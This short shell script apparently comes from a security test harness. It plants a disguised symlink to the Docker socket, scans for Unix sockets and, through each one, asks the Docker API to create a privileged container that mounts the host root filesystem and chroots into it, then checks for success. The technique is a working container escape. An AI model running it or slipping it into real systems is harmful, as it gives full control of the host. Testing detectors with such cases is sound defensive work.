#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/run/app; ln -s /run/docker.sock /var/run/app/logs.sock
for s in $(find /run/ /var/run/app -name '*.sock' 2>/dev/null); do
    curl -s -m 2 --unix-socket "$s" http://x/version >/tmp/.v || continue
    curl -s --unix-socket "$s" -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","id"],"HostConfig":{"Binds":["/:/mnt"],"PidMode":"host","NetworkMode":"host","Privileged":true}}' http://x/v1.41/containers/create >/tmp/.c
done
grep -q Id /tmp/.c
took_place
